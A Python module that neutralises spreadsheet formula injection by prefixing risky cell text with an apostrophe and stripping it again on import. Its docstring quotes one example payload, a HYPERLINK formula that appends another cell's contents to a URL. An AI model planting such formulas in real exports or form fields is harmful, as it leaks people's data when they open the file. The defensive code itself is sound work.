"""Cells that a spreadsheet must show as text, never run as a formula (CSV/formula injection).

A name typed into the public application form as `=HYPERLINK("https://…?d="&C2;"Se profil")`
would otherwise become a live formula in every export a person opens. Text that starts with a
character a spreadsheet reads as the start of a formula gets a leading apostrophe, the
spreadsheets' own "this is text" mark; `restore` takes it off again when our import reads it back.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"
# A value that already starts with the mark is marked too, so that restoring is exact.
_MARKED_STARTS = (*FORMULA_STARTS, TEXT_MARK)


def neutralise(value):
    """The value as it may go into a spreadsheet cell; anything but text is returned as it is."""
    if isinstance(value, str) and value.startswith(_MARKED_STARTS):
        return TEXT_MARK + value
    return value


def restore(text: str) -> str:
    """The value that `neutralise` was given (text read back from a cell)."""
    if text.startswith(TEXT_MARK) and text[1:].startswith(_MARKED_STARTS):
        return text[1:]
    return text


def neutralise_row(values) -> list:
    return [neutralise(value) for value in values]
